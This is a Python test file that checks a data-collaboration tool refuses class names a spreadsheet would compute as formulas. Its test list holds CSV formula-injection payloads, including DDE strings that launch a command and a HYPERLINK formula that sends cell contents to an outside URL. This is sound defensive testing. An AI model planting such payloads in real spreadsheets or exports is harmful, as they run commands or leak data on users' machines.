"""Names of classes become entries of tables, which spreadsheets open; none of them may be a formula there."""

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from datacollab.errors import ExchangeError
from datacollab.exchange.project import Task, load_project, project_text

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"more")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    " =A1",
    "\uff1dA1",
    "\uff0bA1",
]
NAMES = ["-1", "+5", "-1.5e3", "+12%", "+", "-", "++", "+/-", "a=1", "<5", ">= 10", "1-2", "mail@example.org", "a -b"]


def task(name):
    return Task(kind="classification", target="ill", classes=("no", name))


@pytest.mark.parametrize("name", FORMULAS)
def test_classes_that_a_spreadsheet_would_compute_are_refused(name):
    with pytest.raises(ExchangeError, match="would compute it as a formula. Choose another name") as caught:
        task(name)
    assert caught.value.code == "SPEC_INVALID"
    assert "'ill', a class" in str(caught.value)


def test_a_signed_file_with_such_a_class_is_refused(make_project, keys, monkeypatch, tmp_path):
    with monkeypatch.context() as patched:
        patched.setattr("datacollab.exchange.project._task.check_no_formula", lambda where, text: None)
        (tmp_path / "project.toml").write_text(project_text(make_project(task=task("=A1")), keys["a"]))
        assert load_project(tmp_path / "project.toml").task.classes == ("no", "=A1")
    with pytest.raises(ExchangeError, match="formula"):
        load_project(tmp_path / "project.toml")


@pytest.mark.parametrize("name", NAMES)
def test_signs_and_numbers_may_be_classes(name):
    assert task(name).classes == ("no", name)


@given(st.text(alphabet="=+-@ .,;%0123456789eEabcXYZ()|!'\uff1d", min_size=1, max_size=12))
def test_what_is_a_class_is_no_formula(name):
    assume(name.isprintable() and name != "no")
    try:
        task(name)
    except ExchangeError:
        assume(False)
    shown = name.strip().replace("\uff1d", "=")
    is_number = True
    try:
        float(shown.rstrip("%"))
    except ValueError:
        is_number = False
    assert is_number or shown[:1] not in "=+-@" or not set(shown) - set("=+-@ .,;%()|!'")
